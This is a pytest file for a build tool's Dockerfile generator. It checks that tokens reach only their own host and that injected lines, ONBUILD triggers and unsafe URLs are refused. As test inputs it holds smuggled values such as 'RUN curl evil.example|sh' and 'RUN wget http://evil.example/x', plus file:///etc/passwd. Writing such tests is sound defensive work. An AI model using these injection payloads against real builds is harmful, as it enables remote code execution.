"""What stands in a Dockerfile that we write: addresses and names are strangers', tokens go to their own host alone."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from cpack_build.backends.builder import _explained
from cpack_build.backends.buildkit import BuildKit
from cpack_build.backends.dockerfile import _added, _quoted, dockerfile, text_of
from cpack_build.backends.features import features_of, version_in_engine
from cpack_build.backends.ingredients import LockContext, clean_url
from cpack_build.backends.protocol import Farm, Request
from cpack_build.errors import (
    BadField,
    BadInput,
    EngineFailed,
    HashMismatch,
    NetworkError,
    StorageError,
    UnsafeInput,
    UsageError,
)
from cpack_build.fetch.http import Sources
from cpack_build.fetch.mirrors import Mirrors
from cpack_build.fetch.store import Store
from cpack_build.image.gather import Places
from cpack_build.lock.interpreter import vouch
from cpack_build.lock.schema import Lock, PinnedWheels, read_lock
from cpack_build.lock.wheels import Wheel, pylock_text, wheels_of
from cpack_build.oci.documents import require_no_triggers
from cpack_build.oci.layout import write_layout
from tests.image.small import CODE, DEBS, make_parts
from tests.making import make_wheel
from tests.oci.images import image_of

A, B = "a" * 64, "b" * 64
NEW, OLD = features_of((0, 13)), features_of((0, 8))


def _request(folder: Path, lock: Lock, *, trust: bool = False) -> Request:
    """*lock*, whose parts lie in *folder*, to be built."""
    return Request(
        (lock,),
        documents={"snapshot.json": b"{}"},
        pack=None,
        places={lock.platform: Places(f"oci:{folder}/base.oci", [str(folder / "models")], [str(folder / "wheels")])},
        store=Store(folder / "store"),
        sources=Sources(Mirrors({CODE: f"{folder}/", DEBS: f"{folder}/"})),
        trust=trust,
    )


def _written(
    folder: Path, lock: Lock, *, new: bool = True, trust: bool = False, stays: bool = False
) -> tuple[str, tuple[str, ...]]:
    """The Dockerfile of *lock*, whose parts lie in *folder*, and the secrets that it mounts."""
    made = make_wheel(folder / "wheels", "uv", {"uv-1.0.data/scripts/uv": b"#!uv"})
    pylock = pylock_text(
        [Wheel(made.name, made.version, made.filename, None, made.sha256, made.size)], python_version="3.11"
    )
    request = _request(folder, lock, trust=trust)
    context = LockContext(folder / "context", lock, request, fetches=new, stays=stays, lock=lock)
    context.folder.mkdir()
    uv = PinnedWheels(pylock=pylock, pylock_sha256=hashlib.sha256(pylock.encode()).hexdigest())
    plan = dockerfile(context, NEW if new else OLD, uv=uv)
    return plan.dockerfile, plan.secrets


def _with_model(lock: Lock, **fields: Any) -> Lock:
    return lock.model_copy(update={"models": (lock.models[0].model_copy(update=fields),)})


def test_a_public_model_is_fetched_by_its_hash_and_no_token_is_asked_for(tmp_path: Path) -> None:
    lock = _with_model(make_parts(tmp_path, models=[100]), sources=("https://models.example/a b/$HOME/x.safetensors",))
    text, secrets = _written(tmp_path, lock)
    (line,) = (line for line in text.splitlines() if "models.example" in line)
    sha256 = lock.models[0].sha256
    assert line == (
        f"ADD --link --checksum=sha256:{sha256} --chmod=0444 https://models.example/a%20b/%24HOME/x.safetensors "
        f"/models/sha256/{sha256}"
    )
    assert secrets == ()
    assert not (tmp_path / "context" / "models").exists()


@pytest.mark.parametrize(
    ("host", "secret"),
    [("huggingface.co", "HF_TOKEN"), ("civitai.com", "CIVITAI_API_TOKEN"), ("huggingface.co.evil.example", None)],
)
def test_a_token_is_mounted_for_its_own_host_alone(tmp_path: Path, host: str, secret: str | None) -> None:
    lock = make_parts(tmp_path, models=[100])
    lock = _with_model(lock, sources=(f"https://{host}/x.safetensors",), access="gated")
    vouch(lock, store=Store(tmp_path / "store"))
    text, secrets = _written(tmp_path, lock)
    if secret is None:
        assert (secrets, host in text) == ((), False), "fetched here and sent"
        assert (tmp_path / "context" / "models" / lock.models[0].sha256).exists()
    else:
        (line,) = (line for line in text.splitlines() if host in line)
        assert f"--mount=type=secret,id={secret},required=true" in line
        assert f"/run/secrets/{secret}" in line
        assert secrets == (secret,)


@pytest.mark.parametrize("trust", [False, True])
def test_a_token_is_shown_to_no_python_that_others_chose(tmp_path: Path, trust: bool) -> None:
    """The step that fetches runs the lock's own Python, with a network; here that of a base nobody here has named."""
    lock = make_parts(tmp_path, models=[100])
    lock = _with_model(lock, sources=("https://huggingface.co/x.safetensors",), access="gated")
    text, secrets = _written(tmp_path, lock, trust=trust)
    assert (secrets, "type=secret" in text, "huggingface.co" in text) == ((), False, False), "fetched here and sent"
    assert (tmp_path / "context" / "models" / lock.models[0].sha256).exists()


def test_a_token_is_not_sent_without_tls(tmp_path: Path) -> None:
    lock = make_parts(tmp_path, models=[100])
    lock = _with_model(lock, sources=("http://huggingface.co/x.safetensors",), access="private")
    vouch(lock, store=Store(tmp_path / "store"))
    text, secrets = _written(tmp_path, lock)
    assert (secrets, "huggingface.co" in text) == ((), False)


def test_an_old_builder_gets_every_file_with_the_context(tmp_path: Path) -> None:
    lock = _with_model(make_parts(tmp_path, models=[100]), sources=("https://models.example/x.safetensors",))
    text, _ = _written(tmp_path, lock, new=False)
    assert "://" not in text
    assert "--link " not in text
    assert "--network" not in text
    present = {str(path.relative_to(tmp_path / "context")) for path in (tmp_path / "context").rglob("*")}
    assert {"debs/0000-tool.deb", f"models/{lock.models[0].sha256}", "wheels"} <= present


def test_a_base_is_named_by_digest(tmp_path: Path) -> None:
    lock = make_parts(tmp_path, models=[])
    base = lock.base.model_copy(update={"reference": "registry.example:5000/team/base:1"})
    text, _ = _written(tmp_path, lock.model_copy(update={"base": base}))
    assert f"FROM registry.example:5000/team/base@{base.digest} AS ground" in text  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd", "/etc/passwd", "git+ssh://git@code.example/x", "https://user:secret@host.example/x",
        "https://host.example/x?token=secret", "https://host.example/x#y", "ftp://host.example/x", "https:///x",
        "http://[::1", "",
    ],
)  # fmt: skip
def test_what_a_builder_must_not_know_or_cannot_ask_is_no_address(url: str) -> None:
    assert clean_url(url) is None


@pytest.mark.parametrize(
    "url", ["https://h.example/a\nRUN evil", "https://h.example/a b", "https://h.example/'\"`$(x)"]
)
def test_an_address_is_one_word(url: str) -> None:
    cleaned = clean_url(url)
    assert cleaned is not None
    assert not re.search(r"[\s\"`]", cleaned)


REFERENCE = "debian AS ground\nRUN wget http://evil.example/x\n#:x"
WHEEL = "foo-1.0-py3-none-any\nFROM debian AS tools\nRUN curl evil.example|sh #.whl"


def test_a_base_whose_name_is_more_than_a_name_is_refused_where_the_lock_is_read_and_before_it_is_built(
    tmp_path: Path,
) -> None:
    lock = make_parts(tmp_path, models=[])
    hostile = lock.model_copy(update={"base": lock.base.model_copy(update={"reference": REFERENCE})})
    with pytest.raises(BadField, match=r"base\.image\.reference"):
        read_lock(hostile.to_bytes(), name="x.lock")
    for reference in (REFERENCE, "debian AS ground", "$HOME/x"):
        hostile = lock.model_copy(update={"base": lock.base.model_copy(update={"reference": reference})})
        (refusal,) = BuildKit(Farm()).refusals(_request(tmp_path, hostile))
        assert "base.reference" in str(refusal)
    with pytest.raises(UsageError):
        _written(tmp_path, hostile)


def test_a_wheel_whose_name_is_more_than_a_name_is_refused(tmp_path: Path) -> None:
    pylock = pylock_text([Wheel("foo", "1.0", WHEEL, "https://h.example/x", A, 1)], python_version="3.11")
    pinned = PinnedWheels(pylock=pylock, pylock_sha256=hashlib.sha256(pylock.encode()).hexdigest())
    with pytest.raises(BadInput, match="pylock is damaged"):
        wheels_of(pinned)


@pytest.mark.parametrize("builder", ["1\nRUN evil", "1\r", "é", "x" * 81])
def test_the_version_that_made_a_lock_is_a_short_line(tmp_path: Path, builder: str) -> None:
    lock = make_parts(tmp_path, models=[]).model_copy(update={"builder": builder})
    with pytest.raises(BadField, match="builder"):
        read_lock(lock.to_bytes(), name="x.lock")


@pytest.mark.parametrize("line", [f"FROM {REFERENCE}", f"ADD x /{WHEEL}", "LABEL a=b\rRUN evil"])
def test_no_line_is_two(line: str) -> None:
    assert text_of(["FROM scratch", "USER 1"]) == "FROM scratch\nUSER 1\n"
    with pytest.raises(UnsafeInput, match="line end"):
        text_of(["FROM scratch", line])


@pytest.mark.parametrize(
    "config",
    [
        b'{"config": {"OnBuild": ["RUN evil"]}}',
        b'{"CONFIG": {"onbuild": ["RUN evil"]}}',
        b'{"config": {"OnBuild": ["RUN evil"]}, "config": {}}',
    ],
)
def test_a_base_that_does_something_by_itself_is_refused(config: bytes) -> None:
    require_no_triggers("x", b'{"config": {"OnBuild": null, "Labels": {"OnBuild": "x"}}, "c": {"OnBuild": []}}')
    with pytest.raises(UnsafeInput, match="ONBUILD"):
        require_no_triggers("x", config)


def test_such_a_base_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    lock = make_parts(tmp_path, models=[])
    base = image_of([], config={"OnBuild": ["RUN wget evil.example"]})
    shutil.rmtree(tmp_path / "base.oci")
    write_layout(base, tmp_path / "base.oci")
    lock = lock.model_copy(update={"base": lock.base.model_copy(update={"digest": base.digest})})
    with pytest.raises(UnsafeInput, match="ONBUILD"):
        BuildKit(Farm()).written(_request(tmp_path, lock), tmp_path / "printed")
    assert not list((tmp_path / "printed").iterdir())


@pytest.mark.parametrize("stays", [False, True])
def test_a_context_leaves_the_files_of_others_and_what_the_store_knows_of_them_alone(
    tmp_path: Path, stays: bool
) -> None:
    """A hard link changes a file's ctime; and in a printed context it would be the file itself, to be changed later."""
    lock = make_parts(tmp_path, models=[100])
    (model,) = lock.models
    path = next((tmp_path / "models").rglob("*.safetensors"))
    store = Store(tmp_path / "store")
    before = store.adopt(path)
    blob = store.put([(tmp_path / "tool.deb").read_bytes()], what="tool")
    _written(tmp_path, _with_model(lock, sources=()), stays=stays)
    assert path.stat().st_nlink == 1
    assert store.find(model.sha256) == before
    placed = tmp_path / "context" / "models" / model.sha256
    assert placed.read_bytes() == path.read_bytes()
    # as many names as the store made it, or its hash is known for the stat that it has now
    assert blob.path.stat().st_nlink == 1 or (not stays and store.known(blob.path) == blob.sha256)


def test_names_are_escaped_for_the_instruction_in_which_they_stand() -> None:
    assert json.loads(_added("it's $HOME")) == r"it\'s \$HOME"
    assert _quoted('a "b" $C \\') == '"a \\"b\\" \\$C \\\\"'
    assert _quoted("/x:${PATH}", expands=True) == '"/x:${PATH}"'


@pytest.mark.parametrize(
    ("engine", "version"), [("20.10.24+dfsg1", (0, 8)), ("23.0.1", (0, 10)), ("26.1.5", (0, 13)), ("99", (0, 8))]
)
def test_an_engine_is_believed_to_have_the_buildkit_of_its_release(engine: str, version: tuple[int, int]) -> None:
    expected = version if engine != "99" else (0, 8)
    assert version_in_engine(engine) == expected


@pytest.mark.parametrize(
    ("said", "kind", "words"),
    [
        (f"#3 ERROR: digest mismatch sha256:{A}: sha256:{B}\n------\n"
         f" > [1/1] ADD --checksum=sha256:{B} http://h.example/f /f:"
         "\n------\n", HashMismatch, f"http://h.example/f has sha256 {A}, but {B} was promised"),
        (f"RUN x: cpack-build: /app has sha256 {A}, but {B} was promised.", HashMismatch, f"/app has sha256 {A}"),
        ("ERROR: failed to do request: dial tcp: lookup h.example: no such host", NetworkError, "h.example"),
        ("ERROR: write /var/lib: no space left on device", StorageError, "prune"),
        ("------\n > [wheels 3/4] RUN x:\n0.1 it is\n0.2 broken\n------\nERROR: failed to solve: x", EngineFailed,
         "it is | broken"),
        ("", EngineFailed, "said nothing"),
    ],
)  # fmt: skip
def test_a_failed_build_is_told_for_what_it_is(said: str, kind: type[Exception], words: str) -> None:
    error = _explained(said)
    assert type(error) is kind
    assert words in str(error)


SHOWN = Path(__file__).parents[2] / "buildkit" / "Dockerfile"


def test_what_buildkit_shows_is_what_is_written(tmp_path: Path) -> None:
    """``buildkit/Dockerfile`` is the one of a small lock, for people to read and for reviews of what we write.

    After a change that is meant, write it anew: ``CPACK_TEST_RECORD=1 pytest tests/backends/test_dockerfile.py``.
    """
    lock = make_parts(tmp_path, models=[100])
    model = {"sources": ("https://models.example/x.safetensors",)}
    text, _ = _written(tmp_path, _with_model(lock, **model))
    text = re.sub(r'(io\.cpack\.lock\.sha256=")[0-9a-f]{64}', rf"\g<1>{'0' * 64}", text)
    if os.environ.get("CPACK_TEST_RECORD"):
        SHOWN.write_text(text)
    assert SHOWN.read_text() == text, "see this test's docstring"
